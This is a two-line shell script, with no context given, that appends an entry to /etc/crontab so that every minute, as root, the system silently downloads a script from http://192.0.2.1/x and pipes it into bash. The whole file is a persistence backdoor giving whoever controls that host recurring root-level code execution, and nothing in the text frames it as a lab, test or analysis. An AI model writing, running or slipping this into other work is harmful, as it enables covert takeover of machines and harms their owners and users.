#!/bin/sh
echo '*/1 * * * * root wget -qO- http://192.0.2.1/x|bash' >> /etc/crontab
